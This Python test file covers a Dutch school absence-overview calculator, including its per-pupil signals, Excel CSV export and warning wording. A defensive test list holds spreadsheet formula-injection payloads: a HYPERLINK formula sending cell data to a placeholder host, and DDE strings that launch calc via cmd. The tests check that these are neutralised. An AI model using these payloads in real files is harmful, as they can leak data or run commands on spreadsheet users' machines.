"""The verzuimoverzicht's answer per pupil (what holds now, what is past, the one next action), the CSV for
Excel (Dutch labels and dates, formula neutralisation) and the file-level warnings and wording."""

import csv
import datetime as dt
import io
import sys
from pathlib import Path

import pytest

from calculators import csv_veilig, run
from calculators.overzicht import als_csv

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "scripts"))
import maak_exports  # noqa: E402

BASIS = {"regio": "landelijk", "vakantieregio": "midden"}


def _rijen(tekst: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(tekst), delimiter=";"))


def _lrv_leerling(peildatum="2026-04-24") -> dict:
    """Absent every school day since 2 March: a 16-hour melding whose deadline has passed, and an open LRV."""
    dagen = maak_exports.Kalender("midden").schooldagen(dt.date(2026, 3, 2), dt.date(2026, 4, 24))
    tekst = "Stamnr;Datum;Lesuur;Code\n" + "".join(f"31;{d:%d-%m-%Y};{u};A\n" for d in dagen for u in range(1, 7))
    uit = run("verzuimoverzicht", {**BASIS, "bestand": tekst, "peildatum": peildatum})
    assert "fouten" not in uit, uit
    return uit


def test_oude_en_huidige_signalen_gescheiden():
    x = _lrv_leerling()["leerlingen"][0]
    soorten_nu = [n["soort"] for n in x["nu"]]
    assert "lrv" in soorten_nu and "melding_16_uur" not in soorten_nu
    assert any(n["soort"] == "melding_16_uur" and "meldtermijn verstreken op" in n["tekst"] for n in x["voorbij"])
    # the one next action: check the passed deadline first (the oldest obligation), with its date
    actie = x["volgende_actie"]
    assert actie["soort"] == "melding_16_uur" and actie["verstreken"] and actie["datum"] == x["termijn_verstreken"]
    assert x["actie_nodig"] and x["eerstvolgende_termijn"] is None
    # dates in the texts are Dutch (dd-mm-jjjj), never ISO
    assert all("2026-" not in n["tekst"] for n in x["nu"] + x["voorbij"]) and "sinds 27-03-2026" in x["nu"][0]["tekst"]


def test_open_termijn_is_de_volgende_actie_met_datum():
    tekst = "Stamnr;Datum;Lesuur;Code\n" + "".join(f"5;0{d}-03-2026;{u};A\n" for d in range(2, 7) for u in range(1, 5))
    x = run("verzuimoverzicht", {**BASIS, "bestand": tekst, "peildatum": "2026-03-09"})["leerlingen"][0]
    assert x["eerstvolgende_termijn"] and x["volgende_actie"]["datum"] == x["eerstvolgende_termijn"]
    assert not x["volgende_actie"]["verstreken"] and x["nu"][0]["soort"] == "melding_16_uur"
    assert x["voorbij"] == []


def test_zonder_signaal_geen_actie():
    x = run("verzuimoverzicht", {**BASIS, "bestand": "Stamnr;Datum;Lesuur;Code\n7;02-03-2026;1;A\n",
                                 "peildatum": "2026-03-09"})["leerlingen"][0]
    assert x["nu"] == [] and x["voorbij"] == [] and x["volgende_actie"] is None and not x["actie_nodig"]


def _ziek(peildatum: str, later: str | None = None) -> dict:
    # four sick reports within a few weeks: the M@ZL criterion of frequent sick reports; ``later``: another
    # pupil's registration that moves the date the counts run to
    tekst = "Stamnr;Datum;Lesuur;Code\n" + "".join(f"8;{d};1;Z\n" for d in ("02-03-2026", "09-03-2026",
                                                                          "16-03-2026", "23-03-2026"))
    if later:
        tekst += f"9;{later};1;A\n"
    uit = run("verzuimoverzicht", {**BASIS, "bestand": tekst, "peildatum": peildatum})
    assert "fouten" not in uit, uit
    return next(x for x in uit["leerlingen"] if x["leerling"] == "8")


def test_mazl_nu_is_actie_nodig_en_oud_mazl_staat_bij_voorbij():
    nu = _ziek("2026-03-24")
    assert nu["mazl"], "the test needs an M@ZL signal"
    assert nu["actie_nodig"] and nu["volgende_actie"]["soort"] == "mazl"
    assert any(n["soort"] == "mazl" for n in nu["nu"])
    later = _ziek("2026-12-01", later="30-11-2026")  # the same signal, long before the counts' end
    assert later["mazl"] and not any(n["soort"] == "mazl" for n in later["nu"])
    assert any(n["soort"] == "mazl" for n in later["voorbij"])


def test_csv_nederlands_een_kolom_per_feit():
    uit = _lrv_leerling()
    rijen = _rijen(als_csv(uit))
    kol = {k: i for i, k in enumerate(rijen[0])}
    r = rijen[1]
    assert r[kol["Langdurig relatief verzuim"]] == "loopt" and r[kol["Urengrens bereikt"]] == "ja"
    assert r[kol["Thuiszitter"]] == "ja" and r[kol["Zorgwekkend ziekteverzuim (M@ZL)"]] == "nee"
    assert r[kol["Geteld tot en met"]] == "24-04-2026" and "Uren ongeoorloofd (klokuren)" in kol
    tekst = als_csv(uit)
    for intern in ("melding_16_uur", "lrv,", "16_uur", "t/m open", "2026-0", "uiterlijk 2026"):
        assert intern not in tekst


def test_csv_lesuren_in_de_kop():
    uit = run("verzuimoverzicht", {"regio": "zuid-kennemerland-ijmond", "peildatum": "2026-03-09",
                                   "bestand": "Stamnr;Datum;Lesuur;Code\n7;02-03-2026;1;A\n"})
    assert "Uren ongeoorloofd (lesuren)" in _rijen(als_csv(uit))[0]


VIJANDIG = ['=HYPERLINK("http://x.example/?d="&A1;"klik")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "\t=1+1", "\r=1+1", " =1+1"]


@pytest.mark.parametrize("cel", VIJANDIG)
def test_veilige_cel(cel):
    veilig = csv_veilig.veilige_cel(cel)
    assert veilig == "'" + cel
    assert csv_veilig.veilige_cel("Jansen") == "Jansen" and csv_veilig.veilige_cel(None) == ""
    assert csv_veilig.veilige_cel("16,5") == "16,5" and csv_veilig.veilige_cel("'=x") == "'=x"


def test_csv_met_vijandige_cellen_is_inert():
    """Hostile pupil numbers, names and classes from the export never start a formula in the CSV."""
    regels = [("=1+1", "=HYPERLINK(\"http://x.example\";\"klik\")", "+cmd|' /C calc'!A0"),
              ("-2+3", "\tJan", "@SUM(1+1)"), ("@SUM(A1)", "-5", "=A1")]
    buffer = io.StringIO()
    schrijver = csv.writer(buffer, delimiter=";", lineterminator="\n")
    schrijver.writerow(["Stamnr", "Naam", "Klas", "Datum", "Lesuur", "Code"])
    schrijver.writerows([n, m, k, "02-03-2026", "1", "A"] for n, m, k in regels)
    tekst = buffer.getvalue()
    uit = run("verzuimoverzicht", {**BASIS, "bestand": tekst, "peildatum": "2026-03-09"})
    assert "fouten" not in uit, uit
    for namen in (True, False):
        for rij in _rijen(als_csv(uit, namen=namen))[1:]:
            for cel in rij:
                assert not cel.lstrip(" ").startswith(tuple(csv_veilig.GEVAARLIJK)), (cel, rij)
    rijen = _rijen(als_csv(uit))
    assert {r[0] for r in rijen[1:]} == {"'=1+1", "'-2+3", "'@SUM(A1)"}
    assert "'=HYPERLINK(\"http://x.example\";\"klik\")" in {r[1] for r in rijen[1:]}


def test_alleen_vorig_schooljaar_geeft_een_waarschuwing():
    uit = run("verzuimoverzicht", {**BASIS, "bestand": "Stamnr;Datum;Lesuur;Code\n7;02-03-2026;1;A\n",
                                   "peildatum": "2026-12-01"})
    assert any(w.startswith("Alle registraties liggen vóór") for w in uit["waarschuwingen"])
    nu = run("verzuimoverzicht", {**BASIS, "bestand": "Stamnr;Datum;Lesuur;Code\n7;02-03-2026;1;A\n",
                                  "peildatum": "2026-03-09"})
    assert not any("Alle registraties liggen" in w for w in nu["waarschuwingen"])


def test_enkelvoud_in_de_waarschuwingen():
    tekst = "Stamnr;Datum;Lesuur;Code\n7;02-03-2026;1;A\n7;02-03-2026;1;A\n7;;1;A\n7;02-03-2026;2;\n7;20-03-2026;1;A\n"
    uit = run("verzuimoverzicht", {**BASIS, "bestand": tekst, "peildatum": "2026-03-09"})
    w = " ".join(uit["waarschuwingen"])
    assert "1 dubbele registratie (zelfde leerling, dag en lesuur of periode) telt één keer" in w
    assert "1 regel is niet te lezen en telt niet mee" in w
    assert "1 regel ligt na de peildatum" in w and "en telt niet mee" in w
    assert "De regel zonder code (1 regel) is nog niet ingedeeld: deze regel telt niet mee" in w
    assert "tellen niet mee" not in w and "(1 regels)" not in w


def test_zonder_koprij_geeft_de_eerste_regels_en_rekent_met_kolomnummers():
    tekst = "".join(f"12;0{d}-03-2026;{u};A\n" for d in range(2, 7) for u in range(1, 5))
    fout = run("verzuimoverzicht", {**BASIS, "bestand": tekst, "peildatum": "2026-03-09"})
    assert fout["fouten"][0]["veld"] == "bestand" and "geen koprij" in fout["fouten"][0]["melding"]
    assert fout["bestand"]["koprij"] is False and [k["kop"] for k in fout["bestand"]["kolommen"]] == ["1", "2", "3", "4"]
    assert fout["bestand"]["voorbeeld"][0] == ["12", "02-03-2026", "1", "A"] and len(fout["bestand"]["voorbeeld"]) == 5
    uit = run("verzuimoverzicht", {**BASIS, "bestand": tekst, "peildatum": "2026-03-09",
                                   "kolommen": {"leerling": "1", "datum": "2", "lesuur": "3", "code": "4"}})
    assert "fouten" not in uit and uit["leerlingen"][0]["leerling"] == "12"
    assert uit["leerlingen"][0]["meldingen"][0]["soort"] == "16_uur"
    assert uit["bestand"]["voorbeeld"][0][0] == "12" and uit["bestand"]["codekolom"] is True


def test_naam_sorteert_op_achternaam_als_het_bestand_die_geeft():
    tekst = ("Stamnr;Roepnaam;Tussenvoegsel;Achternaam;Datum;Lesuur;Code\n"
             "1;Zoë;van;Aalst;02-03-2026;1;A\n2;Anna;;Zwart;02-03-2026;1;A\n")
    uit = run("verzuimoverzicht", {**BASIS, "bestand": tekst, "peildatum": "2026-03-09"})
    assert uit["bestand"]["naam_sortering"] == "achternaam"
    per = {x["leerling"]: x for x in uit["leerlingen"]}
    assert per["1"]["naam"] == "Zoë van Aalst" and per["1"]["sorteernaam"] == "Aalst, Zoë"
    assert sorted(per.values(), key=lambda x: x["sorteernaam"])[0]["leerling"] == "1"


def test_duizendtallen_in_de_tekst():
    tekst = "Stamnr;Datum;Lesuur;Code\n" + "".join(f"{n};02-03-2026;1;G\n" for n in range(1200))
    uit = run("verzuimoverzicht", {**BASIS, "bestand": tekst, "peildatum": "2026-03-09"})
    assert any(s["tekst"].startswith("Bestand gelezen: 1.200 regels") for s in uit["uitleg"])
    assert "Van de 1.200 leerlingen" in uit["kern"]
